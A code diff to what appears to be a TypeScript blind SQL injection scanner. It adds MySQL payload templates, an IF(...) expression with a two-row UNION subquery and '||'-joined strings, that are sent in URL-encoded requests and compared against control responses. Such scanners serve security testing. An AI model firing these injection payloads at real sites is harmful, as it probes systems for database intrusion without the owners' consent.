@@ -16,6 +16,8 @@ interface Form {
 const isColumn = (own: string) => /^(?:\d{1,3}|[a-z_][\w.]{0,60})$/i.test(own);
 /** Holds where both numbers are the same, and fails where they are not: a subquery of two rows is no value. */
 const oneOrNone = (a: number, b: number) => `(CASE WHEN ${a}=${b} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)`;
+/** The same for MySQL without a blank: 0 where both numbers are the same. */
+const zeroOrNone = (a: number, b: number) => `IF(${a}=${b},0,(SELECT(1)UNION(SELECT(2))))`;
 const isNumber = (own: string) => /^-?\d+(?:\.\d+)?$/.test(own);
 
 const forms: readonly Form[] = [
@@ -29,6 +31,9 @@ const forms: readonly Form[] = [
   { value: (own, a, b) => `${own}'&&'${a}'='${b}`, fits: () => true },
   { value: (own, a, b) => `${own}"&&"${a}"="${b}`, fits: () => true },
   { value: (own, a, b) => `${own}')&&('${a}'='${b}`, fits: () => true },
+  // || is MySQL's too. Nothing is found beside: the condition is 0, or has no value.
+  { value: (own, a, b) => `${own}||${zeroOrNone(a, b)}`, fits: isNumber },
+  { value: (own, a, b) => `${own}'||${zeroOrNone(a, b)}||'0`, fits: () => true },
   // Where a query sorts by the value: one more column, which changes nothing or has no value.
   { value: (own, a, b) => `${own},${oneOrNone(a, b)}`, fits: isColumn },
   { value: (own, a, b) => `${own}',${oneOrNone(a, b)},'`, fits: isColumn },
@@ -66,7 +71,7 @@ async function narrowed(
       alsoTrue: value(own, c, c),
       alsoFalse: value(own, c, d),
       // Not SQL any more: what a page does with words alone.
-      control: value(own, c, c).replace(/AND|&&|CASE/, marker()),
+      control: value(own, c, c).replace(/AND|&&|CASE|IF/, marker()),
     };
     const urls = [response.url, ...Object.values(texts).map((each) => askedWith(point, encodeURIComponent(each)))];
     const ask = async (text: string) => {
